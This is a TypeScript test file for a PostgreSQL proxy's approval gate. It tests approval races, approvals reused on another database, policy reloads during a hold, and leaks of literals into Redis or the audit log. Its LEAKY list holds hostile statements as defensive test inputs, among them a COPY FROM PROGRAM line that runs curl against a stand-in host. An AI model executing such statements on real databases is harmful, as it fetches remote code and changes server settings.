// Attacks on the PostgreSQL session's use of approvals (security review): an approval filed on one
// database run on another, a cancel that lands while the approval is being claimed, a policy
// reloaded during a hold, literals in the command text reviewers and the audit log see, and an
// outage after a request is known that loses its id. The gate's races are driven through a fake
// ApprovalService; the rest against a real sidecar, PostgreSQL and Redis.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, rename, writeFile } from 'node:fs/promises';
import pg from 'pg';
import { Redis } from 'ioredis';
import { parseDocument } from 'yaml';
import type { AuditEvent } from '../audit/event.ts';
import { requestKey, reviewChannel, reviewsKey } from '../sidecar/approvals/approval-keys.ts';
import { parseRequest, serializeReviewRecord } from '../sidecar/approvals/approval-records.ts';
import type { ApprovalAnswer, ApprovalAsk, ApprovalService } from '../sidecar/approvals/approval-service.ts';
import type { ApprovalRequest, ApprovalSettings } from '../policy/approvals/approval-types.ts';
import { passApprovalGate, type ApprovalEvent } from '../sidecar/protocols/postgres/approval-gate.ts';
import { byReason, uniqueName, waitForEvents } from './harness/audit-events.ts';
import { startCustosStack, type CustosStack } from './harness/custos-stack.ts';
import type { PolicyDocument } from './harness/sidecar-files.ts';

const SETTINGS: ApprovalSettings = {
  reviewers: { groups: ['dba'], users: [] }, minApprovals: 1, mode: 'hold', holdTimeoutSeconds: 60, ttlSeconds: 600, grant: { scope: 'once' },
};

function fakeRequest(): ApprovalRequest {
  return {
    id: 'ar-aaaaaaaaaaaa', createdAt: new Date().toISOString(), expiresAt: new Date(Date.now() + 600_000).toISOString(),
    requester: { id: 'someone', kind: 'OIDC' }, gateway: { id: 'gw' }, target: { name: 't', protocol: 'postgres', database: 'app', user: 'u' },
    policy: { name: 'p', version: '1', rule: 'r' }, command: 'DELETE FROM t', fingerprint: 'f', commandDigest: 'sha256:00', settings: SETTINGS,
  };
}

const ASK: ApprovalAsk = {
  requester: { id: 'someone', kind: 'OIDC' }, target: { name: 't', protocol: 'postgres', database: 'app', user: 'u' },
  policy: { name: 'p', version: '1', rule: 'r' }, sql: 'DELETE FROM t', command: 'DELETE FROM t', fingerprint: 'f', settings: SETTINGS,
};

/** A service whose request is pending on ask, and whose wait answers `waited` after running `during`. */
function fakeService(during: () => void, waited: (request: ApprovalRequest) => ApprovalAnswer | Error): ApprovalService {
  const request = fakeRequest();
  return {
    ask: () => Promise.resolve({ outcome: 'pending', request, created: true }),
    wait: () => {
      during();
      const answer = waited(request);
      return answer instanceof Error ? Promise.reject(answer) : Promise.resolve(answer);
    },
    close: () => Promise.resolve(),
  };
}

function approved(request: ApprovalRequest): ApprovalAnswer {
  return { outcome: 'approved', request, via: 'claim', status: { phase: 'Approved', counted: [], refused: [] } };
}

describe('approval gate races (fake service)', () => {
  for (const reason of ['cancel', 'disconnect'] as const) {
    it(`a ${reason} that lands while the approval is claimed refuses the statement (57014, approval.cancelled, no approval.executed)`, async () => {
      const hold = new AbortController();
      const events: ApprovalEvent[] = [];
      const verdict = await passApprovalGate(fakeService(() => { hold.abort(reason); }, approved), {
        ask: ASK, rule: 'r', signal: hold.signal, now: Date.now,
        record: (event) => { events.push(event); return Promise.resolve(true); },
      });
      assert.equal(verdict.kind, 'refuse');
      assert.equal(verdict.refusal.sqlstate, '57014');
      assert.deepEqual(events.map((e) => e.type), ['approval.requested', 'approval.cancelled']);
      assert.equal(events[1]?.approval?.id, 'ar-aaaaaaaaaaaa');
    });
  }

  it('beforeRun is checked before approval.executed is written, and the abort before beforeRun', async () => {
    const hold = new AbortController();
    const events: ApprovalEvent[] = [];
    const order: string[] = [];
    const verdict = await passApprovalGate(fakeService(() => undefined, approved), {
      ask: ASK, rule: 'r', signal: hold.signal, now: Date.now,
      beforeRun: () => { order.push('beforeRun'); return undefined; },
      record: (event) => { order.push(event.type); events.push(event); return Promise.resolve(true); },
    });
    assert.equal(verdict.kind, 'run');
    assert.deepEqual(order, ['approval.requested', 'beforeRun', 'approval.executed']);
  });

  it('an outage after the request is known keeps the request id in the audit event', async () => {
    for (const waited of [(): Error => new Error('redis down'), (): ApprovalAnswer => ({ outcome: 'unavailable', error: 'redis down' })]) {
      const events: ApprovalEvent[] = [];
      const verdict = await passApprovalGate(fakeService(() => undefined, waited), {
        ask: ASK, rule: 'r', signal: new AbortController().signal, now: Date.now,
        record: (event) => { events.push(event); return Promise.resolve(true); },
      });
      assert.equal(verdict.kind, 'refuse');
      const last = events.at(-1);
      assert.match(last?.message ?? '', /approval service unavailable/);
      assert.equal(last?.approval?.id, 'ar-aaaaaaaaaaaa', 'the unavailable event names the request');
    }
  });
});

const REVIEWER = { email: 'alice@example.com', groups: ['dba'] } as const;

function approval(mode: 'hold' | 'return'): Record<string, unknown> {
  return { reviewers: { groups: ['dba'] }, mode, ...(mode === 'hold' ? { holdTimeoutSeconds: 120 } : {}), ttlSeconds: 600 };
}

/**
 * The example policy with a target that lets the client choose its database; the deny rules for
 * DDL, COPY PROGRAM and opaque code removed so such statements fall to `defaultAction:
 * require-approval` (return mode); unfiltered UPDATEs need approval in return mode, unfiltered
 * DELETEs in hold mode.
 */
function attackPolicy(doc: PolicyDocument): void {
  doc.deleteIn(['spec', 'targets', 0, 'database']);
  const rules = doc.getIn(['spec', 'rules']) as { items: unknown[] };
  rules.items.splice(0, 4,
    doc.createNode({ name: 'approve-unfiltered-updates', match: { sql: { statements: ['update'], where: 'missing-or-constant' } }, action: 'require-approval', approval: approval('return') }),
    doc.createNode({ name: 'approve-unfiltered-deletes', match: { sql: { statements: ['delete'], where: 'missing-or-constant' } }, action: 'require-approval', approval: approval('hold') }));
  doc.setIn(['spec', 'defaultAction'], 'require-approval');
  doc.setIn(['spec', 'defaultApproval'], doc.createNode(approval('return')));
  doc.setIn(['spec', 'reviewerAuthentication'], doc.createNode({
    issuer: String(doc.getIn(['spec', 'issuers', 0, 'issuer'])),
    audience: 'custos-reviews',
    jwksFile: String(doc.getIn(['spec', 'issuers', 0, 'jwksFile'])),
  }));
}

const OTHER_DB = 'app_other';

describe('approval attacks against a real sidecar', () => {
  let stack: CustosStack;
  let redis: Redis;

  async function billing(database: string): Promise<void> {
    const owner = stack.postgres.user;
    await stack.postgres.psql([
      'DROP TABLE IF EXISTS invoices, customers',
      'CREATE TABLE invoices (id integer PRIMARY KEY, customer text NOT NULL, amount numeric NOT NULL DEFAULT 0)',
      "INSERT INTO invoices SELECT g, 'customer ' || g, g * 10 FROM generate_series(1, 5) g",
      `ALTER TABLE invoices OWNER TO ${owner}`,
    ].join('; '), database);
  }

  async function amounts(database: string): Promise<string> {
    return (await stack.postgres.psql("SELECT string_agg(amount::text, ',' ORDER BY id) FROM invoices", database)).trim();
  }

  async function connect(name: string, database: string): Promise<pg.Client> {
    const client = new pg.Client({ ...stack.clientConfig(await stack.token()), application_name: name, database });
    client.on('error', () => undefined);
    await client.connect();
    return client;
  }

  async function approve(id: string, reason: string): Promise<void> {
    const text = await redis.get(requestKey(id));
    assert.ok(text !== null, `request ${id} is in Redis`);
    const request = parseRequest(text, id);
    const token = await stack.issuer.mint(REVIEWER, { audience: 'custos-reviews', subject: 'alice', expiresInSeconds: 300 });
    await redis.rpush(reviewsKey(id), serializeReviewRecord({ decision: 'approve', reason, at: new Date().toISOString(), commandDigest: request.commandDigest, token }));
    await redis.publish(reviewChannel(id), 'review');
  }

  async function refusal(client: pg.Client, sql: string): Promise<Error & { code?: string }> {
    const outcome = await client.query(sql).then((r) => r, (e: unknown) => e as Error & { code?: string });
    if (!(outcome instanceof Error)) assert.fail(`expected a refusal, the statement ran: ${sql}`);
    return outcome;
  }

  before(async () => {
    stack = await startCustosStack({ redis: true, editPolicy: attackPolicy });
    await stack.postgres.psql(`CREATE DATABASE ${OTHER_DB} OWNER ${stack.postgres.user}`, 'postgres');
    await billing(stack.postgres.database);
    await billing(OTHER_DB);
    redis = new Redis(stack.redis?.url ?? '', { maxRetriesPerRequest: 1 });
    redis.on('error', () => undefined);
  });
  after(async () => {
    redis.disconnect();
    await stack.stop();
  });

  it('a return-mode approval filed on one database cannot be executed on another', async () => {
    const name = uniqueName('db-binding');
    const home = await connect(name, stack.postgres.database);
    const other = await connect(name, OTHER_DB);
    try {
      const sql = 'UPDATE invoices SET amount = amount + 1';
      const first = await refusal(home, sql);
      assert.equal(first.code, '57014');
      const id = /request (ar-[a-z2-7]{12}) is pending/.exec(first.message)?.[1];
      assert.ok(id !== undefined, first.message);
      await approve(id, 'correction on the main database');

      const elsewhere = await refusal(other, sql);
      assert.equal(elsewhere.code, '57014');
      assert.doesNotMatch(elsewhere.message, new RegExp(id), 'another database needs a request of its own');
      assert.equal(await amounts(OTHER_DB), '10,20,30,40,50', 'nothing ran on the other database');

      assert.equal((await home.query(sql)).rowCount, 5, 'the approved statement runs where it was filed');
      assert.equal(await amounts(stack.postgres.database), '11,21,31,41,51');
      const filed = parseRequest((await redis.get(requestKey(id))) ?? '', id);
      assert.equal(filed.target.database, stack.postgres.database, 'the request names the database it runs in');
      assert.equal(filed.target.user, stack.postgres.user, 'and the upstream role');
    } finally {
      await home.end();
      await other.end();
    }
  });

  const LEAKY: readonly (readonly [string, readonly string[]])[] = [
    ["CREATE SERVER leak_srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'leak-host.internal', password 'leak-pw-1')", ['leak-host.internal', 'leak-pw-1']],
    ["COPY invoices FROM PROGRAM 'curl https://leak.example/payload'", ['leak.example', 'curl']],
    ["ALTER SYSTEM SET work_mem = '777MB'", ['777MB']],
    ["COMMENT ON TABLE invoices IS 'leak-comment-secret'", ['leak-comment-secret']],
    ["PREPARE leak_p AS SELECT 'leak-prepared-lit', 987654", ['leak-prepared-lit', '987654']],
    ["EXECUTE leak_p('leak-executed-lit')", ['leak-executed-lit']],
  ];

  it('no literal of a statement normalize leaves constants in reaches Redis or the audit log', async () => {
    const name = uniqueName('literals');
    const client = await connect(name, stack.postgres.database);
    const ids: string[] = [];
    try {
      for (const [sql] of LEAKY) {
        const error = await refusal(client, sql);
        assert.equal(error.code, '57014', `${sql}: ${error.message}`);
        const id = /request (ar-[a-z2-7]{12}) is pending/.exec(error.message)?.[1];
        assert.ok(id !== undefined, error.message);
        ids.push(id);
      }
    } finally {
      await client.end();
    }
    const records = (await Promise.all(ids.map((id) => redis.get(requestKey(id))))).join('\n');
    const events = byReason(await waitForEvents(stack.spoolDir, (all) => byReason(all, name).filter((e) => e.event_type === 'approval.requested' && e.outcome === 'unknown').length >= LEAKY.length), name);
    const trail = JSON.stringify(events);
    assert.ok(events.some((e) => e.command?.text.startsWith('CREATE SERVER') === true), 'the audit events carry the command text');
    for (const [, literals] of LEAKY) {
      for (const literal of literals) {
        assert.ok(!records.includes(literal), `${literal} in a Redis request record`);
        assert.ok(!trail.includes(literal), `${literal} in an audit event`);
      }
    }
  });

  it('a policy reloaded during a hold is decided again: a statement now denied does not run', async () => {
    const name = uniqueName('redecide');
    const client = await connect(name, stack.postgres.database);
    const original = await readFile(stack.policyFile, 'utf8');
    try {
      const held = client.query('DELETE FROM invoices').then(() => assert.fail('ran though the policy now denies it'), (e: unknown) => e as Error & { code?: string });
      const events = await waitForEvents(stack.spoolDir, (all) => byReason(all, name).some((e) => e.event_type === 'approval.requested'), 15_000);
      const id = byReason(events, name).find((e) => e.event_type === 'approval.requested')?.approval?.id;
      assert.ok(id !== undefined);
      const doc = parseDocument(original);
      doc.setIn(['spec', 'rules', 1, 'action'], 'deny');
      doc.deleteIn(['spec', 'rules', 1, 'approval']);
      doc.setIn(['spec', 'rules', 1, 'message'], 'no more wipes');
      const reloads = (stack.logs().match(/policy reloaded/g) ?? []).length;
      await writeFile(`${stack.policyFile}.tmp`, doc.toString());
      await rename(`${stack.policyFile}.tmp`, stack.policyFile);
      const deadline = Date.now() + 15_000;
      while ((stack.logs().match(/policy reloaded/g) ?? []).length === reloads && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
      assert.ok((stack.logs().match(/policy reloaded/g) ?? []).length > reloads, 'the sidecar reloaded the policy');
      await approve(id, 'approved before anyone noticed the policy change');
      const error = await held;
      assert.equal(error.code, '42501');
      assert.match(error.message, /permission denied by policy rule "approve-unfiltered-deletes": no more wipes/);
      assert.equal(await amounts(stack.postgres.database), '11,21,31,41,51');
      const mine = byReason(await waitForEvents(stack.spoolDir, (all) => byReason(all, name).some((e) => e.event_type === 'approval.cancelled'), 15_000), name);
      const cancelled = mine.find((e: AuditEvent) => e.event_type === 'approval.cancelled');
      assert.equal(cancelled?.approval?.id, id);
      assert.match(cancelled.message ?? '', /policy/);
      assert.ok(!mine.some((e) => e.event_type === 'approval.executed'));
    } finally {
      await writeFile(`${stack.policyFile}.tmp`, original);
      await rename(`${stack.policyFile}.tmp`, stack.policyFile);
      await client.end();
    }
  });
});
